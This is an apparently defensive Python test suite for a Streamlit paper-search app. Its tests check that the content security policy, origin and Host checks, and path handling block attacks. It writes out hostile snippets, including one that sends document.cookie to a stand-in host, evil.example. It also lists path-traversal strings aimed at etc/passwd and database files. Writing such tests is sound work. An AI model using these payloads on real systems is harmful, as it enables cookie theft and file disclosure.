"""Attacks on the page and the routes: the browser refuses some of them, and the app the others."""

from __future__ import annotations

import http.client
import json
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request

from tests.attacks import ATTACKS
from tests.browser.app import ask, settled, until
from tests.browser.conftest import opened

# Gathers what the policy refuses, from before anything else runs.
REFUSED = """
window.refused = [];
document.addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) => {
  // Streamlit looks whether it could run WebAssembly, and does without.
  if (blockedURI !== "wasm-eval") refused.push(`${effectiveDirective} ${blockedURI}`);
});
"""
# What a paper's words would do to a page, were they ever put into it as they are.
INSERTED = {
    "script-src-elem": "const one = document.createElement('script');"
    "one.textContent = 'taken = 1'; document.body.append(one)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend',"
    "'<img src=data:, onerror=\"taken = 1\">')",
    "img-src": "new Image().src = 'https://evil.example/?' + document.cookie",
    "connect-src": "fetch('https://evil.example/', {method: 'POST', body: 'x'}).catch(() => 0)",
    "frame-src": "document.body.insertAdjacentHTML('beforeend',"
    "'<iframe src=https://evil.example></iframe>')",
    "form-action": "document.body.insertAdjacentHTML('beforeend',"
    "'<form action=https://evil.example id=f></form>'); f.submit()",
    "base-uri": "document.head.insertAdjacentHTML('beforeend','<base href=https://evil.example>')",
    "style-src-elem": "document.head.insertAdjacentHTML('beforeend',"
    "'<link rel=stylesheet href=https://evil.example/x.css>')",
    "object-src": "document.body.insertAdjacentHTML('beforeend',"
    "'<object data=https://evil.example/x.swf></object>')",
}
PAGES = ("", "decisions", "previous-answers", "papers", "briefing", "add-papers", "paper")
PARAMETERS = (
    "q after like follow cite paper page about question from to committee meeting document kind "
    "outcome all when"
)
ROUTES = {
    "api/ask": ("q", "previous", "committee", "from", "top"),
    "api/decisions": ("about", "kind"),
    "api/answers": ("q",),
    "api/papers": ("document", "offset"),
    "api/passage": ("cite",),
    "papers/x/1.png": ("cite", "width"),
}
ANSWERS = (
    "/ /decisions /api /api/papers /api/none /healthz /_stcore/health /papers/x.pdf "
    "/papers/x/1.png /briefing/x.csv /favicon.png /..%2f /_stcore/host-config /media/x /none.js"
)
# Ways out of a folder, in each part of the app that serves files.
CLIMBS = "../ ..%2f %2e%2e/ %2e%2e%2f ..\\ ..%5c %2e%2e%5c ..%00/ %252e%252e%252f"
FOLDERS = (
    "papers/ briefing/ static/ static/js/ media/ component/ app/static/ _stcore/bidi-components/ "
    "_stcore/upload_file/ api/"
)


def test_what_is_put_into_a_page_neither_runs_nor_reaches_another_host(
    browser: Browser, address: str
) -> None:
    context = browser.new_context()
    page = context.new_page()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    page.add_init_script(REFUSED)
    page.goto(address)
    page.get_by_placeholder("Ask about the papers").wait_for()
    for directive, script in INSERTED.items():
        page.evaluate(f"() => {{ {script} }}")
        until(page, f"refused.some((one) => one.startsWith('{directive} '))")
    assert page.evaluate("typeof taken") == "undefined"
    assert page.evaluate("document.baseURI").startswith(address)
    elsewhere = [request for request in asked if "evil.example" in request.url]
    assert {request.failure for request in elsewhere} <= {"csp"}
    context.close()


def test_another_site_cannot_put_the_page_within_its_own(browser: Browser, address: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.route(
        "http://other.example/",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe src='{address}'></iframe>"
        ),
    )
    page.goto("http://other.example/")
    page.wait_for_timeout(1000)
    assert not page.frames[1].get_by_placeholder("Ask about the papers").count()
    context.close()


@pytest.mark.parametrize("path", PAGES)
def test_what_an_address_holds_is_shown_as_words(browser: Browser, address: str, path: str) -> None:
    held = " ".join(attack for name, attack in ATTACKS.items() if name != "long")
    query = "&".join(f"{name}={quote(held[:400])}" for name in PARAMETERS.split())
    with opened(browser, address) as page:
        page.add_init_script(REFUSED)
        page.goto(f"{address}/{path}?{query}")
        page.locator("h1").first.wait_for()
        settled(page)
        inert(page)


def test_attacks_that_are_asked_are_words_in_question_and_answer(
    browser: Browser, address: str
) -> None:
    with opened(browser, address) as page:
        page.add_init_script(REFUSED)
        page.goto(address)
        page.get_by_placeholder("Ask about the papers").wait_for()
        for name in ("script", "handler", "link", "formula of LaTeX", "directives", "template"):
            ask(page, f"{ATTACKS[name]} hostile witness")
            shown = page.locator(".question").last.inner_text()
            assert shown.split() == f"{ATTACKS[name]} hostile witness".split()
        inert(page)


def inert(page: Page) -> None:
    """Nothing that was put into the page is anything but words."""
    assert page.evaluate("refused") == []
    assert "taken" not in page.title()
    live = "script:not([src]), img[src=x], iframe, svg[onload], form[action], .katex, [onerror]"
    live += ', :is(a, link)[href*="//evil"], a[href^=javascript], base'
    found = page.evaluate(
        f"[...document.querySelectorAll('.stMain :is({live})')].map(e => e.outerHTML)"
    )
    assert found == []


def asked(
    address: str, path: str, headers: dict[str, str] | None = None, method: str = "GET"
) -> tuple[int, http.client.HTTPMessage, bytes]:
    """What the app answers, to a path sent as it is."""
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)
    connection.request(method, path, headers=headers or {})
    found = connection.getresponse()
    body = found.read()
    connection.close()
    return found.status, found.headers, body


@pytest.mark.parametrize("path", ANSWERS.split())
def test_every_answer_says_what_the_browser_may_do(address: str, path: str) -> None:
    _, headers, _ = asked(address, path)
    policy = headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; ")
    assert "frame-ancestors 'self'" in policy
    assert "'unsafe-eval'" not in policy
    assert "script-src" not in policy or "'unsafe-inline'" not in policy.split("style-src")[0]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-opener-policy"] == "same-origin"


@pytest.mark.parametrize("folder", ["", *FOLDERS.split()])
def test_no_path_leads_out_of_its_folder(address: str, folder: str) -> None:
    for climb in CLIMBS.split():
        for name in ("etc/passwd", "requirements.txt", "library.sqlite", "qa/settings.py"):
            status, headers, body = asked(address, f"/{folder}{climb * 6}{name}")
            shell = headers.get("content-type", "").startswith("text/html") and b'id="root"' in body
            assert status in (400, 404, 405, 307, 308, 301) or shell, (folder, climb, name, status)
            assert b"root:" not in body and b"streamlit==" not in body and b"SQLite" not in body


@pytest.mark.parametrize("route", ROUTES)
def test_no_attack_upsets_a_route(address: str, route: str) -> None:
    for attack in ATTACKS.values():
        for name in ROUTES[route]:
            status, headers, body = asked(address, f"/{route}?{name}={quote(attack)}")
            assert status < 500
            assert "forged" not in str(headers)
            if headers.get("content-type", "").startswith("application/json"):
                json.loads(body)


STREAM = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
          "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA=="}  # fmt: skip


def test_another_site_cannot_ask(address: str) -> None:
    foreign = {"Origin": "https://evil.example"}
    for path in ("/", "/api/ask?q=bus", "/_stcore/health", "/_stcore/host-config"):
        status, headers, _ = asked(address, path, foreign)
        assert status == 403
        assert "access-control-allow-origin" not in headers
    assert asked(address, "/_stcore/stream", {**STREAM, **foreign})[0] == 403
    assert asked(address, "/_stcore/stream", {**STREAM, "Origin": "null"})[0] == 403
    put = {**foreign, "Content-Type": "application/pdf"}
    assert asked(address, "/_stcore/upload_file/x/y", put, "PUT")[0] == 403


def test_its_own_page_can(address: str) -> None:
    own = {"Origin": address}
    assert asked(address, "/_stcore/health", own)[0] == 200
    assert asked(address, "/api/papers", own)[0] == 200


def test_a_name_that_was_led_here_is_not_answered(address: str) -> None:
    for path in ("/", "/api/papers", "/papers/x.pdf"):
        assert asked(address, path, {"Host": "evil.example"})[0] == 421
    named = {**STREAM, "Host": "evil.example", "Origin": "http://evil.example"}
    assert asked(address, "/_stcore/stream", named)[0] in (403, 421)
    port = urlsplit(address).port
    for host in (f"127.0.0.1:{port}", "localhost", "[::1]"):
        assert asked(address, "/healthz", {"Host": host})[0] == 200
